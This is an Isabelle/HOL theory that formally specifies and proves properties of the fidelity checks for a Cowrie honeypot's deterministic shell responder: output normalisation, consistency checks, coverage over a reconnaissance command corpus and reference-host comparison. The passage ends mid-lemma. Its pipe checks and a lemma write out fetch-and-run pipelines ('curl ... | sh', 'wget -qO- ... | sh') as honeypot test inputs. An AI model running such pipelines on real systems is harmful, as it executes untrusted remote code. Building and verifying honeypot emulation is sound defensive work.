(* ===== verification/Fidelity.thy ===== *)
theory Fidelity
  imports Py_Difflib Responder
begin

text \<open>
  The fidelity checks of the deterministic responder (\<open>src/src/cowrie/llm/fidelity.py\<close>): the normalisation that masks
  volatile tokens and the similarity of two outputs, the consistency checks of one session, the coverage report, and the
  comparison with a reference host. The clock is read at every command that a new_check runs: the \<open>i\<close>-th of them sees the
  host state \<open>hs i\<close>. The commands of the reference host (\<open>runner\<close>) and its name are arguments.
\<close>

section \<open>Normalisation and similarity\<close>

definition IP_RE :: regex where
  "IP_RE = rseq [RWordB, rrep 1 3 rdigit, rrep 3 3 (RSeq (rlit ''.'') (rrep 1 3 rdigit)), RWordB]"

definition hex_letter :: "char \<Rightarrow> bool" where
  "hex_letter c \<longleftrightarrow> c \<in> set ''abcdefABCDEF''"

definition rhex :: regex where "rhex = RCls (\<lambda>c. is_digit c \<or> hex_letter c)"

definition HEX_RE :: regex where
  "HEX_RE = rseq [RWordB, RLook (rseq [rrep 8 8 rhex, RStar rhex, RWordB]), RStar rhex, RCls hex_letter, RStar rhex, RWordB]"

definition NUM_RE :: regex where "NUM_RE = rplus rdigit"
definition FLOAT_RE :: regex where "FLOAT_RE = rseq [rplus rdigit, rlit ''.'', rplus rdigit]"

definition rblank :: regex where "rblank = RCls (\<lambda>c. c = CHR '' '' \<or> c = tab)"
definition HWS_RE :: regex where "HWS_RE = RSeq rblank (rplus rblank)"

definition normalize_output :: "string list \<Rightarrow> string \<Rightarrow> string" where
  "normalize_output drops t =
     (let t = fold (\<lambda>token t. if token \<noteq> [] then str_replace token ''HOST'' t else t) drops t;
          t = re_sub IP_RE (\<lambda>_. ''IP'') t;
          t = re_sub HEX_RE (\<lambda>_. ''HEX'') t;
          t = re_sub FLOAT_RE (\<lambda>_. ''#.#'') t;
          t = re_sub NUM_RE (\<lambda>_. ''#'') t in
      re_sub HWS_RE (\<lambda>_. '' '') t)"

text \<open>\<open>SequenceMatcher(None, a, b).ratio()\<close>.\<close>

definition matcher_ratio :: "string \<Rightarrow> string \<Rightarrow> rat" where
  "matcher_ratio a b =
     (let len = length a + length b in
      if len = 0 then 1 else fdiv (fmul 2 (fl_nat (matches a b))) (fl_nat len))"

definition similarity :: "string \<Rightarrow> string \<Rightarrow> string list \<Rightarrow> rat" where
  "similarity a b drops =
     (let na = normalize_output drops a; nb = normalize_output drops b in
      if na = [] \<and> nb = [] then 1 else matcher_ratio na nb)"

section \<open>Consistency\<close>

record check_result =
  chk_name :: string
  passed :: bool
  detail :: string

definition new_check :: "string \<Rightarrow> bool \<Rightarrow> string \<Rightarrow> check_result" where
  "new_check name p d = \<lparr>chk_name = name, passed = p, detail = d\<rparr>"

text \<open>What the responder prints for a command, and Python's \<open>x or ''''\<close> and \<open>repr(x)\<close> of such an answer.\<close>

definition shell_out :: "re_compile \<Rightarrow> bool \<Rightarrow> host \<Rightarrow> shell_context \<Rightarrow> string \<Rightarrow> string option" where
  "shell_out rc pe h c command = map_option res_output (respond rc pe h command c)"

definition text_or_empty :: "string option \<Rightarrow> string" where
  "text_or_empty x = (case x of None \<Rightarrow> [] | Some s \<Rightarrow> s)"

definition opt_repr :: "string option \<Rightarrow> string" where
  "opt_repr x = (case x of None \<Rightarrow> ''None'' | Some s \<Rightarrow> py_repr s)"

text \<open>The checks, in the order of \<open>run_consistency\<close>; \<open>ask i command\<close> is the \<open>i\<close>-th command that is run.\<close>

type_synonym asker = "nat \<Rightarrow> string \<Rightarrow> string option"

definition kernel_checks :: "asker \<Rightarrow> persona \<Rightarrow> check_result list" where
  "kernel_checks ask p =
     (let una = text_or_empty (ask 0 ''uname -a''); unr = py_strip (text_or_empty (ask 1 ''uname -r'')) in
      [new_check ''uname -r in uname -a'' (unr \<noteq> [] \<and> str_in unr una) (py_repr unr @ '' vs '' @ py_repr una),
       new_check ''uname -r == persona kernel'' (unr = kernel p) (py_repr unr @ '' vs '' @ py_repr (kernel p)),
       new_check ''uname -m == arch'' (py_strip (text_or_empty (ask 2 ''uname -m'')) = py_strip (text_or_empty (ask 3 ''arch''))) []])"

definition cpu_checks :: "asker \<Rightarrow> persona \<Rightarrow> check_result list" where
  "cpu_checks ask p =
     (let nproc = py_strip (text_or_empty (ask 4 ''nproc''));
          block_count = str_count (''processor'' @ [tab] @ '':'') (text_or_empty (ask 5 ''cat /proc/cpuinfo'')) in
      [new_check ''nproc == persona ncpus'' (nproc = str_of_nat (ncpus p)) (nproc @ '' vs '' @ str_of_nat (ncpus p)),
       new_check ''nproc == /proc/cpuinfo blocks'' (nproc = str_of_nat block_count) (nproc @ '' vs '' @ str_of_nat block_count)])"

definition memory_checks :: "asker \<Rightarrow> persona \<Rightarrow> check_result list" where
  "memory_checks ask p =
     (let meminfo = text_or_empty (ask 6 ''cat /proc/meminfo'') in
      [new_check ''meminfo MemTotal == persona memtotal''
         (str_in (ljust 16 ''MemTotal:'' @ rjust 8 (str_of_nat (memtotal_kb p)) @ '' kB'') meminfo)
         (''expected '' @ str_of_nat (memtotal_kb p) @ '' kB''),
       new_check ''meminfo has realistic field count'' (str_count [nl] meminfo \<ge> 40)
         (''only '' @ str_of_nat (str_count [nl] meminfo) @ '' lines''),
       new_check ''free total == persona memtotal'' (str_in (str_of_nat (memtotal_kb p)) (text_or_empty (ask 7 ''free''))) []])"

definition identity_checks :: "asker \<Rightarrow> shell_context \<Rightarrow> check_result list" where
  "identity_checks ask c =
     (let hn = py_strip (text_or_empty (ask 8 ''hostname''));
          etc_hn = py_strip (text_or_empty (ask 9 ''cat /etc/hostname''));
          passwd = text_or_empty (ask 12 ''cat /etc/passwd'');
          id_www = text_or_empty (ask 13 ''id www-data'') in
      [new_check ''hostname == /etc/hostname'' (hn = etc_hn) (py_repr hn @ '' vs '' @ py_repr etc_hn),
       new_check ''hostname == ctx.hostname'' (hn = hostname c) (py_repr hn @ '' vs '' @ py_repr (hostname c)),
       new_check ''whoami == effective user'' (py_strip (text_or_empty (ask 10 ''whoami'')) = ctx_user c)
         (opt_repr (ask 11 ''whoami'') @ '' vs '' @ py_repr (ctx_user c)),
       new_check ''id www-data uid == /etc/passwd''
         (str_in ''uid=33(www-data)'' id_www \<and> str_in ''www-data:x:33:33:'' passwd) (py_strip id_www)])"

definition expected_ids :: "string \<Rightarrow> string list" where
  "expected_ids fam =
     (if fam = ''debian'' then [''ID=ubuntu'', ''ID=debian'']
      else if fam = ''rhel'' then [''ID='' @ [dquote] @ ''centos'' @ [dquote], ''ID=centos'']
      else if fam = ''alpine'' then [''ID=alpine'']
      else [])"

definition system_checks :: "asker \<Rightarrow> persona \<Rightarrow> check_result list" where
  "system_checks ask p =
     (let loadavg = text_or_empty (ask 14 ''cat /proc/loadavg'');
          up = text_or_empty (ask 15 ''uptime'');
          first_load = (case split_ws loadavg of [] \<Rightarrow> [] | w # _ \<Rightarrow> w);
          osr = text_or_empty (ask 16 ''cat /etc/os-release'');
          mount = text_or_empty (ask 17 ''mount'');
          procmounts = text_or_empty (ask 18 ''cat /proc/mounts'');
          df = text_or_empty (ask 19 ''df'');
          ss = text_or_empty (ask 20 ''ss -tlnp'');
          netstat = text_or_empty (ask 21 ''netstat -tlnp'');
          top = text_or_empty (ask 22 ''top -bn1'') in
      [new_check ''loadavg consistent between uptime and /proc/loadavg'' (first_load \<noteq> [] \<and> str_in first_load up)
         (py_repr first_load @ '' not in '' @ py_repr up),
       new_check ''os-release ID matches persona family'' (list_ex (\<lambda>tok. str_in tok osr) (expected_ids (family p)))
         (''family='' @ family p),
       new_check ''root device consistent across mount/proc/df''
         (str_in ''/dev/vda1 on / type ext4'' mount \<and> str_in ''/dev/vda1 / ext4'' procmounts \<and> str_in ''/dev/vda1'' df) [],
       new_check ''sshd:22 consistent across ss and netstat''
         (str_in '':22'' ss \<and> str_in ''sshd'' ss \<and> str_in ''0.0.0.0:22'' netstat \<and> str_in ''sshd'' netstat) [],
       new_check ''top -bn1 mem total matches persona''
         (str_in (rjust 9 (fixed 1 (fdiv (fl_nat (memtotal_kb p)) 1024)) @ '' total'') top) []])"

text \<open>The file-system checks run in a context of their own, with one recorded file.\<close>

definition probe_context :: "rat \<Rightarrow> shell_context \<Rightarrow> shell_context" where
  "probe_context now c =
     \<lparr>ctx_persona = ctx_persona c, boot_time = boot_time c,
      ctx_world = add_file now ''/tmp/fidelity_probe.bin'' 4242 None Downloaded None None new_world, ctx_cwd = ''/root'',
      login_user = login_user c, hostname = hostname c, server_ip = [], client_ip = [], ctx_seed = ctx_seed c, piped = False\<rparr>"

definition file_checks :: "asker \<Rightarrow> check_result list" where
  "file_checks probe =
     [new_check ''ls -l and stat agree on created-file size''
        (str_in ''4242'' (text_or_empty (probe 23 ''ls -l /tmp'')) \<and>
         str_in ''Size: 4242'' (text_or_empty (probe 24 ''stat /tmp/fidelity_probe.bin''))) [],
      new_check ''ls is stable across identical calls'' (probe 25 ''ls -la /tmp'' = probe 26 ''ls -la /tmp'') []]"

definition stable_checks :: "asker \<Rightarrow> check_result list" where
  "stable_checks ask =
     [new_check ''free stable across calls'' (ask 27 ''free -m'' = ask 28 ''free -m'') [],
      new_check ''loadavg stable across calls'' (ask 29 ''cat /proc/loadavg'' = ask 30 ''cat /proc/loadavg'') []]"

definition pipe_checks :: "asker \<Rightarrow> check_result list" where
  "pipe_checks ask =
     (let free_full = text_or_empty (ask 31 ''free -m'');
          free_head = text_or_empty (ask 32 ''free -m | head -2'');
          osr_full = text_or_empty (ask 33 ''cat /etc/os-release'');
          osr_head = text_or_empty (ask 34 ''cat /etc/os-release | head -3'');
          etc_names = split_ws (text_or_empty (ask 35 ''ls /etc''));
          counted = text_or_empty (ask 36 ''ls /etc | wc -l'');
          etc_count = py_strip (if counted = [] then ''0'' else counted) in
      [new_check ''free -m | head -2 is a prefix of free -m'' (free_head \<noteq> [] \<and> startswith free_full free_head) (py_repr free_head),
       new_check ''os-release | head -3 equals the first 3 lines''
         (osr_head = py_join [nl] (take 3 (splitlines osr_full)) @ [nl]) (py_repr osr_head),
       new_check ''ls | wc -l counts entries, not lines of a column layout''
         (etc_names \<noteq> [] \<and> etc_count = str_of_nat (length etc_names)) (etc_count @ '' vs '' @ str_of_nat (length etc_names)),
       new_check ''piped output is stable across identical calls'' (ask 37 ''ps aux | head -3'' = ask 38 ''ps aux | head -3'') [],
       new_check ''download pipelines defer to the interceptor''
         (ask 39 ''curl http://example.com/x.sh | sh'' = None \<and> ask 40 ''wget -qO- http://example.com/x | sh'' = None) []])"

definition run_consistency :: "re_compile \<Rightarrow> bool \<Rightarrow> (nat \<Rightarrow> host) \<Rightarrow> shell_context \<Rightarrow> check_result list" where
  "run_consistency rc pe hs c =
     (let ask = (\<lambda>i. shell_out rc pe (hs i) c); p = ctx_persona c;
          probe = (\<lambda>i. shell_out rc pe (hs i) (probe_context (host_now (hs 23)) c)) in
      kernel_checks ask p @ cpu_checks ask p @ memory_checks ask p @ identity_checks ask c @ system_checks ask p @
      file_checks probe @ stable_checks ask @ pipe_checks ask)"

section \<open>Coverage\<close>

definition RECON_CORPUS :: "(string \<times> string) list" where
  "RECON_CORPUS =
     [(''identity'', ''whoami''), (''identity'', ''id''), (''identity'', ''id www-data''), (''identity'', ''groups''),
      (''identity'', ''w''), (''kernel'', ''uname -a''), (''kernel'', ''uname -r''), (''kernel'', ''uname -m''),
      (''kernel'', ''uname -s''), (''kernel'', ''arch''), (''hardware'', ''nproc''), (''hardware'', ''lscpu''),
      (''hardware'', ''cat /proc/cpuinfo''), (''memory'', ''free''), (''memory'', ''free -h''), (''memory'', ''free -m''),
      (''memory'', ''cat /proc/meminfo''), (''uptime'', ''uptime''), (''uptime'', ''cat /proc/loadavg''),
      (''uptime'', ''cat /proc/uptime''), (''os'', ''cat /etc/os-release''), (''os'', ''cat /etc/hostname''),
      (''os'', ''hostname''), (''os'', ''cat /etc/issue''), (''accounts'', ''cat /etc/passwd''),
      (''accounts'', ''cat /etc/group''), (''env'', ''env''), (''env'', ''echo $HOME''), (''env'', ''echo $PATH''),
      (''net'', ''cat /etc/resolv.conf''), (''net'', ''hostname -I''), (''net'', ''ss -tlnp''), (''net'', ''netstat -tlnp''),
      (''storage'', ''df''), (''storage'', ''df -h''), (''storage'', ''mount''), (''storage'', ''cat /proc/mounts''),
      (''monitor'', ''top -bn1''), (''monitor'', ''vmstat''), (''cron'', ''crontab -l''), (''cron'', ''cat /etc/crontab''),
      (''fs'', ''ls /''), (''fs'', ''ls -la /etc''), (''fs'', ''ls -la /root''), (''fs'', ''stat /etc/passwd''),
      (''time'', ''date''), (''which'', ''which python3''), (''which'', ''which curl''), (''pipe'', ''free -m | head -2''),
      (''pipe'', ''cat /etc/os-release | head -3''),
      (''pipe'', ''cat /proc/cpuinfo | grep -m1 '' @ [squote] @ ''model name'' @ [squote]),
      (''pipe'', ''ps aux | grep root''), (''pipe'', ''ls -la /tmp | wc -l'')]"

record coverage_report =
  rep_total :: nat
  rep_handled :: nat
  by_category :: "(string, nat \<times> nat) dict"
  deferred_commands :: "string list"

definition empty_report :: coverage_report where
  "empty_report = \<lparr>rep_total = 0, rep_handled = 0, by_category = [], deferred_commands = []\<rparr>"

definition coverage_rate :: "coverage_report \<Rightarrow> rat" where
  "coverage_rate r = (if rep_total r \<noteq> 0 then fdiv (fl_nat (rep_handled r)) (fl_nat (rep_total r)) else 0)"

definition cover_command :: "string \<Rightarrow> string \<Rightarrow> bool \<Rightarrow> coverage_report \<Rightarrow> coverage_report" where
  "cover_command cat cmd handled r =
     (let slot = (case map_of (by_category r) cat of None \<Rightarrow> (0, 0) | Some s \<Rightarrow> s); n = (if handled then 1 else 0) in
      \<lparr>rep_total = rep_total r + 1, rep_handled = rep_handled r + n,
       by_category = AList.update cat (fst slot + n, snd slot + 1) (by_category r),
       deferred_commands = deferred_commands r @ (if handled then [] else [cmd])\<rparr>)"

fun cover_all :: "(nat \<Rightarrow> string \<Rightarrow> bool) \<Rightarrow> nat \<Rightarrow> (string \<times> string) list \<Rightarrow> coverage_report \<Rightarrow> coverage_report" where
  "cover_all handles i [] r = r"
| "cover_all handles i ((cat, cmd) # corpus) r =
     cover_all handles (Suc i) corpus (cover_command cat cmd (handles i cmd) r)"

definition coverage :: "re_compile \<Rightarrow> bool \<Rightarrow> (nat \<Rightarrow> host) \<Rightarrow> shell_context \<Rightarrow> (string \<times> string) list \<Rightarrow> coverage_report" where
  "coverage rc pe hs c corpus = cover_all (\<lambda>i cmd. respond rc pe (hs i) cmd c \<noteq> None) 0 corpus empty_report"

section \<open>Comparison with a reference host\<close>

definition SAFE_REFERENCE_COMMANDS :: "string list" where
  "SAFE_REFERENCE_COMMANDS =
     [''whoami'', ''id'', ''uname -a'', ''uname -r'', ''uname -m'', ''arch'', ''nproc'', ''uptime'', ''hostname'', ''free'',
      ''date'', ''groups'', ''cat /proc/cpuinfo'', ''cat /proc/meminfo'', ''cat /etc/os-release'', ''df'', ''df -h'', ''vmstat'']"

record reference_result =
  ref_command :: string
  handled :: bool
  ran_on_host :: bool
  ref_similarity :: rat
  ref_note :: string

text \<open>The host runs the words of the command itself; no shell reads them.\<close>

definition run_host :: "(string list \<Rightarrow> (string \<times> string) option) \<Rightarrow> string \<Rightarrow> string option option" where
  "run_host run command = map_option (\<lambda>argv. map_option (\<lambda>(out, err). out @ err) (run argv)) (shlex_split command)"

definition compare_command ::
  "re_compile \<Rightarrow> bool \<Rightarrow> host \<Rightarrow> shell_context \<Rightarrow> (string \<Rightarrow> string option) \<Rightarrow> string list \<Rightarrow> string \<Rightarrow> reference_result"
where
  "compare_command rc pe h c runner drops cmd =
     (case respond rc pe h cmd c of
        None \<Rightarrow> \<lparr>ref_command = cmd, handled = False, ran_on_host = False, ref_similarity = 0, ref_note = ''deferred to LLM''\<rparr>
      | Some det \<Rightarrow>
          (case runner cmd of
             None \<Rightarrow> \<lparr>ref_command = cmd, handled = True, ran_on_host = False, ref_similarity = 0, ref_note = ''binary absent on host''\<rparr>
           | Some host_out \<Rightarrow>
               \<lparr>ref_command = cmd, handled = True, ran_on_host = True,
                ref_similarity = similarity (res_output det) host_out drops, ref_note = []\<rparr>))"

definition reference_compare ::
  "re_compile \<Rightarrow> bool \<Rightarrow> (nat \<Rightarrow> host) \<Rightarrow> string \<Rightarrow> shell_context \<Rightarrow> string list \<Rightarrow> (string \<Rightarrow> string option) \<Rightarrow> reference_result list"
where
  "reference_compare rc pe hs real_hostname c commands runner =
     (let drops = filter (\<lambda>t. t \<noteq> []) [hostname c, real_hostname, server_ip c, client_ip c] in
      map (\<lambda>(i, cmd). compare_command rc pe (hs i) c runner drops cmd) (enumerate 0 commands))"

definition build_context :: "rng \<Rightarrow> rat \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string + shell_context" where
  "build_context randint now persona_slug seed login host_name server =
     (case pick_persona persona_slug persona_slug of
        Inl e \<Rightarrow> Inl e
      | Inr p \<Rightarrow>
          Inr \<lparr>ctx_persona = p, boot_time = roll_boot_time randint now p seed, ctx_world = new_world, ctx_cwd = ''/root'',
               login_user = login, hostname = host_name, server_ip = server, client_ip = ''198.51.100.23'',
               ctx_seed = seed, piped = False\<rparr>)"

section \<open>Similarity\<close>

lemma fl_below_one: "x \<le> 1 - 1 / 2 ^ 53 \<Longrightarrow> fl x < 1"
proof -
  assume "x \<le> 1 - 1 / 2 ^ 53"
  then have "fl x \<le> fl (1 - 1 / 2 ^ 53)" by (rule fl_mono)
  also have "fl (1 - 1 / 2 ^ 53) < 1" by code_simp
  finally show ?thesis .
qed

lemma matcher_ratio_exact:
  assumes "length a + length b < 2 ^ 53"
  shows "0 \<le> matcher_ratio a b \<and> matcher_ratio a b \<le> 1 \<and> (matcher_ratio a b = 1 \<longleftrightarrow> a = b)"
proof (cases "length a + length b = 0")
  case True
  then show ?thesis by (simp add: matcher_ratio_def)
next
  case False
  define m n where "m = matches a b" and "n = length a + length b"
  have n: "0 < n" "n < 2 ^ 53" using False assms by (simp_all add: n_def)
  have m: "2 * m \<le> n" using matches_bound [of a b] by (simp add: m_def n_def)
  then have "fl_nat m = of_nat m" "fl_nat (2 * m) = of_nat (2 * m)" "fl_nat n = of_nat n" using n fl_small by simp_all
  then have ratio: "matcher_ratio a b = fl (of_nat (2 * m) / of_nat n)"
    using False by (simp add: matcher_ratio_def fmul_def fdiv_def m_def n_def fl_nat_def)
  have full: "2 * m = n \<longleftrightarrow> a = b"
  proof
    assume "2 * m = n"
    then have "matches a b = length a" "length a = length b" using matches_bound [of a b] by (simp_all add: m_def n_def)
    then show "a = b" by (rule matches_all)
  next
    assume "a = b"
    then show "2 * m = n" using matches_self [of b] by (simp add: m_def n_def)
  qed
  have one: "fl 1 = 1" by code_simp
  show ?thesis
  proof (cases "2 * m = n")
    case True
    then have "(of_nat (2 * m) / of_nat n :: rat) = 1" using n(1) by simp
    then show ?thesis using full True by (simp only: ratio one) simp
  next
    case False
    then have "2 * m + 1 \<le> n" using m by simp
    then have "(of_nat (2 * m) + 1 :: rat) \<le> of_nat n" by (metis of_nat_1 of_nat_add of_nat_le_iff)
    then have "(of_nat (2 * m) / of_nat n :: rat) \<le> 1 - 1 / of_nat n" using n(1) by (simp add: field_simps)
    also have "\<dots> \<le> 1 - 1 / 2 ^ 53"
    proof -
      have "(of_nat n :: rat) \<le> 2 ^ 53" using n(2) by (metis less_imp_le of_nat_le_iff of_nat_numeral of_nat_power)
      then show ?thesis using n(1) by (simp add: frac_le)
    qed
    finally have "matcher_ratio a b < 1" unfolding ratio by (rule fl_below_one)
    moreover have "0 \<le> matcher_ratio a b" unfolding ratio by (rule fl_nonneg) simp
    ultimately show ?thesis using full False by auto
  qed
qed

section \<open>Coverage\<close>

text \<open>The entries of a corpus with their numbers, and those of one category.\<close>

abbreviation of_category :: "string \<Rightarrow> (nat \<times> string \<times> string) list \<Rightarrow> (nat \<times> string \<times> string) list" where
  "of_category cat \<equiv> filter (\<lambda>(i, c, cmd). c = cat)"

definition add_slot :: "(nat \<times> nat) option \<Rightarrow> nat \<Rightarrow> nat \<Rightarrow> (nat \<times> nat) option" where
  "add_slot slot h n = (if n = 0 then slot else case slot of None \<Rightarrow> Some (h, n) | Some (a, b) \<Rightarrow> Some (a + h, b + n))"

lemma cover_all_exact:
  fixes handles :: "nat \<Rightarrow> string \<Rightarrow> bool"
  defines "answered \<equiv> \<lambda>(i, c, cmd). handles i cmd"
  shows "rep_total (cover_all handles i corpus r) = rep_total r + length corpus \<and>
    rep_handled (cover_all handles i corpus r) = rep_handled r + length (filter answered (enumerate i corpus)) \<and>
    deferred_commands (cover_all handles i corpus r) =
      deferred_commands r @ map (snd \<circ> snd) (filter (\<lambda>e. \<not> answered e) (enumerate i corpus)) \<and>
    map_of (by_category (cover_all handles i corpus r)) cat =
      add_slot (map_of (by_category r) cat) (length (filter answered (of_category cat (enumerate i corpus))))
        (length (of_category cat (enumerate i corpus)))"
proof (induction corpus arbitrary: i r)
  case Nil
  then show ?case by (simp add: add_slot_def)
next
  case (Cons e corpus)
  obtain c cmd where e: "e = (c, cmd)" by (cases e)
  show ?case
    using Cons.IH [of "Suc i" "cover_command c cmd (handles i cmd) r"]
    by (auto simp: e cover_command_def answered_def add_slot_def update_conv' split: option.split)
qed

section \<open>Consistency\<close>

text \<open>One command of the table, with everything its reading needs decided by evaluation.\<close>

definition reads_as :: "string \<Rightarrow> string \<Rightarrow> string list \<Rightarrow> bool" where
  "reads_as raw cmd args \<longleftrightarrow> py_strip raw = raw \<and> raw \<noteq> [] \<and> CHR ''|'' \<notin> set raw \<and> \<not> endswith raw ''&'' \<and>
     \<not> list_ex (\<lambda>mc. str_in mc raw) METACHARS \<and> shlex_split raw = Some (cmd # args) \<and> cmd \<noteq> ''sudo''"

lemma respond_reads:
  assumes "reads_as raw cmd args"
  shows "respond rc pe h raw c = (case map_of DISPATCH cmd of None \<Rightarrow> None | Some handler \<Rightarrow> handler h args c (ctx_user c))"
  using assms respond_single [of raw rc pe h c] respond_simple_dispatch [of raw cmd args h c False] by (simp add: reads_as_def)

lemma gate_reads:
  "reads_as ''uname -a'' ''uname'' [''-a'']" "reads_as ''uname -r'' ''uname'' [''-r'']" "reads_as ''uname -m'' ''uname'' [''-m'']"
  "reads_as ''arch'' ''arch'' []" "reads_as ''nproc'' ''nproc'' []" "reads_as ''hostname'' ''hostname'' []"
  "reads_as ''whoami'' ''whoami'' []" "reads_as ''cat /etc/hostname'' ''cat'' [''/etc/hostname'']"
  "reads_as ''cat /etc/passwd'' ''cat'' [''/etc/passwd'']" "reads_as ''id www-data'' ''id'' [''www-data'']"
  "reads_as ''free -m'' ''free'' [''-m'']" "reads_as ''cat /proc/loadavg'' ''cat'' [''/proc/loadavg'']"
  by code_simp+

text \<open>A name that \<open>strip\<close> leaves as it is, and a session whose files are those of the persona.\<close>

definition gate_context :: "shell_context \<Rightarrow> bool" where
  "gate_context c \<longleftrightarrow> ctx_persona c \<in> set PERSONAS \<and> files (ctx_world c) = [] \<and>
     hostname c \<noteq> [] \<and> list_all (\<lambda>ch. \<not> is_space ch) (hostname c) \<and>
     ctx_user c \<noteq> [] \<and> list_all (\<lambda>ch. \<not> is_space ch) (ctx_user c)"

lemma strip_line: "s \<noteq> [] \<Longrightarrow> list_all (\<lambda>ch. \<not> is_space ch) s \<Longrightarrow> py_strip (s @ [nl]) = s"
proof -
  assume s: "s \<noteq> []" "list_all (\<lambda>ch. \<not> is_space ch) s"
  have "is_space nl" by code_simp
  moreover have "\<not> is_space (hd s)" "\<not> is_space (last s)" using s by (simp_all add: list_all_iff)
  ultimately show ?thesis using s(1) by (simp add: strip_by_snoc strip_by_id)
qed

lemma is_space_nl: "is_space nl"
  by code_simp

lemma kernel_line: "p \<in> set PERSONAS \<Longrightarrow> kernel p \<noteq> [] \<and> py_strip (kernel p @ [nl]) = kernel p"
proof -
  have "list_all (\<lambda>k. k \<noteq> [] \<and> list_all (\<lambda>ch. \<not> is_space ch) k)
    [''5.15.0-122-generic'', ''5.4.0-200-generic'', ''6.1.0-25-amd64'', ''5.10.0-28-amd64'', ''3.10.0-1160.el7.x86_64'', ''6.6.32-0-lts'']"
    by code_simp
  moreover have "map kernel PERSONAS = [''5.15.0-122-generic'', ''5.4.0-200-generic'', ''6.1.0-25-amd64'', ''5.10.0-28-amd64'',
      ''3.10.0-1160.el7.x86_64'', ''6.6.32-0-lts'']"
    by (simp add: PERSONAS_def persona_defs)
  ultimately have "\<forall>k\<in>set (map kernel PERSONAS). k \<noteq> [] \<and> list_all (\<lambda>ch. \<not> is_space ch) k"
    by (simp only: list_all_iff)
  then show "p \<in> set PERSONAS \<Longrightarrow> kernel p \<noteq> [] \<and> py_strip (kernel p @ [nl]) = kernel p"
    using strip_line by simp
qed

lemma gate_answers:
  "shell_out rc pe h c ''uname -r'' = Some (kernel (ctx_persona c) @ [nl])"
  "shell_out rc pe h c ''uname -m'' = Some (uname_m (ctx_persona c) @ [nl])"
  "\<exists>u v. shell_out rc pe h c ''uname -a'' = Some (u @ kernel (ctx_persona c) @ v)"
  "shell_out rc pe h c ''arch'' = Some (uname_m (ctx_persona c) @ [nl])"
  "shell_out rc pe h c ''nproc'' = Some (str_of_nat (ncpus (ctx_persona c)) @ [nl])"
  "shell_out rc pe h c ''hostname'' = Some (hostname c @ [nl])"
  "shell_out rc pe h c ''whoami'' = Some (ctx_user c @ [nl])"
  "shell_out rc pe h c ''id www-data'' = Some (id_line 33 ''www-data'')"
  by (simp_all add: shell_out_def respond_reads [OF gate_reads(1)] respond_reads [OF gate_reads(2)] respond_reads [OF gate_reads(3)]
      respond_reads [OF gate_reads(4)] respond_reads [OF gate_reads(5)] respond_reads [OF gate_reads(6)]
      respond_reads [OF gate_reads(7)] respond_reads [OF gate_reads(10)] DISPATCH_def h_uname_def h_arch_def h_nproc_def
      h_hostname_def h_whoami_def h_id_def answer_def uname_show_def uname_requested_def uname_fields_def Let_def
      resolve_user_def SYSTEM_UIDS_def not_flag_def) (metis append_Cons append_Nil append_assoc)

lemma gate_files:
  assumes "files (ctx_world c) = []"
  shows "shell_out rc pe h c ''cat /etc/hostname'' = Some (hostname c @ [nl])"
    and "shell_out rc pe h c ''cat /etc/passwd'' = Some (etc_passwd c)"
    and "shell_out rc pe h c ''cat /proc/loadavg'' = Some (proc_loadavg c)"
  using assms
  by (simp_all add: shell_out_def respond_reads [OF gate_reads(8)] respond_reads [OF gate_reads(9)] respond_reads [OF gate_reads(12)]
      DISPATCH_def h_cat_def cat_one_def file_table_def answer_def not_flag_def)

lemma join_contains: "x \<in> set xs \<Longrightarrow> sublist x (py_join sep xs)"
proof (induction sep xs rule: py_join.induct)
  case (3 sep a b xs)
  then consider "x = a" | "sublist x (py_join sep (b # xs))" by auto
  then show ?case
  proof cases
    case 2
    then show ?thesis by (simp add: sublist_append)
  qed simp
qed simp_all

lemma www_data: "str_in ''www-data:x:33:33:'' (etc_passwd c)" "str_in ''uid=33(www-data)'' (id_line 33 ''www-data'')"
proof -
  have "sublist ''www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin'' (py_join [nl] (passwd_lines c))"
    by (rule join_contains) (simp add: passwd_lines_def system_accounts_def)
  moreover have "sublist ''www-data:x:33:33:'' ''www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin''" by simp
  ultimately have "sublist ''www-data:x:33:33:'' (py_join [nl] (passwd_lines c))" by (rule sublist_order.order_trans [rotated])
  then show "str_in ''www-data:x:33:33:'' (etc_passwd c)" by (simp add: str_in_iff etc_passwd_def sublist_append)
  show "str_in ''uid=33(www-data)'' (id_line 33 ''www-data'')" by code_simp
qed

lemma downloads_deferred:
  "respond rc pe h ''curl http://example.com/x.sh | sh'' c = None"
  "respond rc pe h ''wget -qO- http://example.com/x | sh'' c = None"
proof -
  have "py_strip ''curl http://example.com/x.sh | sh'' = ''curl http://example.com/x.sh | sh''"
    "split_pipeline ''curl http://example.com/x.sh | sh'' = Some [''curl http://example.com/x.sh'', ''sh'']"
    "\<not> list_ex (\<lambda>mc. str_in mc ''curl http://example.com/x.sh'') METACHARS"
    "shlex_split ''curl http://example.com/x.sh'' = Some [''curl'', ''http://example.com/x.sh'']"
    "py_strip ''wget -qO- http://example.com/x | sh'' = ''wget -qO- http://example.com/x | sh''"
    "split_pipeline ''wget -qO- http://example.com/x | sh'' = Some [''wget -qO- http://example.com/x'', ''sh'']"
    "\<not> list_ex (\<lambda>mc. str_in mc ''wget -qO- http://example.com/x'') METACHARS"
    "shlex_split ''wget -qO- http://example.com/x'' = Some [''wget'', ''-qO-'', ''http://example.com/x'']"
    by code_simp+
  then show "respond rc pe h ''curl http://example.com/x.sh | sh'' c = None"
    "respond rc pe h ''wget -qO- http://example.com/x | sh'' c = None"
    by (simp_all add: respond_def respond_simple_dispatch DISPATCH_def suffix_def)
qed

section \<open>Properties\<close>

text \<open>The structural similarity is a number between 0 and 1, and it is exactly 1 if and only if the two outputs are
  the same text once the volatile tokens are masked: popular characters, which the matcher leaves out of its index, and
  the rounding of the quotient never make two different shapes count as identical.\<close>

lemma similarity_exact:
  assumes "length (normalize_output drops a) + length (normalize_output drops b) < 2 ^ 53"
  shows "0 \<le> similarity a b drops \<and> similarity a b drops \<le> 1 \<and>
    (similarity a b drops = 1 \<longleftrightarrow> normalize_output drops a = normalize_output drops b)"
  using matcher_ratio_exact [OF assms] by (auto simp: similarity_def Let_def)


text \<open>The coverage report counts every command of the corpus once: the commands in all, the answered ones, the deferred
  ones in the order of the corpus, and for each category that occurs the answered and all commands of that category.\<close>

lemma coverage_exact:
  "let r = coverage rc pe hs c corpus;
       answered = (\<lambda>(i, cat, cmd). respond rc pe (hs i) cmd c \<noteq> None);
       es = enumerate 0 corpus in
